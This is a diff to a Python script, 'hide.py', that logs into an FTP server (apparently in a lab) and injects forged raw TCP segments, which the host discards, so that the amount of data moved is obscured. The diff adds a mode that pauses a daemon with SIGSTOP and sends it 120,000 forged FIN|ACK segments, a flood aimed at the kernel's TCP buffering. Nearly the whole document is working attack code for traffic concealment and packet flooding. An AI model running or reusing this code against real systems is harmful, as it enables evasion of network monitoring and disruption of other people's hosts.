@@ -1,9 +1,12 @@
 """hide.py HOST: transfers over one session, and segments that HOST discards, to hide how much is moved.
 
-Prints a line for each transfer: its path, and the bytes that were moved.
+Prints a line for each transfer: its path, and the bytes that were moved. hide.py HOST DAEMON: more of them than
+the kernel keeps for a daemon that does not run.
 """
 import ftplib
+import os
 import random
+import signal
 import socket
 import struct
 import sys
@@ -44,7 +47,7 @@ def checksum(text):
     return ~total & 0xFFFF
 
 
-def forge(data, numbers, flags, distance, wrong_by):
+def forge(data, numbers, flags, distance, wrong_by, count=1):
     (source, sport), (destination, dport) = data.getsockname(), data.getpeername()
     source, destination = socket.inet_aton(source), socket.inet_aton(destination)
     sequence = (numbers[0] + distance) & 0xFFFFFFFF
@@ -53,7 +56,8 @@ def forge(data, numbers, flags, distance, wrong_by):
     tcp = tcp[:16] + struct.pack("!H", check) + tcp[18:]
     ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), random.randrange(65536), 0, 64, TCP, 0)
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
-        raw.sendto(ip + source + destination + tcp, (data.getpeername()[0], 0))
+        for _ in range(count):
+            raw.sendto(ip + source + destination + tcp, (data.getpeername()[0], 0))
 
 
 def transfer(ftp, verb, path, forged):
@@ -74,6 +78,13 @@ def transfer(ftp, verb, path, forged):
 
 
 with ftplib.FTP(sys.argv[1], "lab", "lab", timeout=60) as ftp:
+    if len(sys.argv) > 2:
+        data = ftp.transfercmd("STOR /flood")
+        numbers = next_numbers(data)
+        os.kill(int(sys.argv[2]), signal.SIGSTOP)
+        forge(data, numbers, FIN | ACK, -900, 0, 120_000)
+        os.kill(int(sys.argv[2]), signal.SIGCONT)
+        sys.exit(data.close())
     for name, forged in FORGED.items():
         for verb in ("STOR", "RETR"):
             for passive in (True, False):
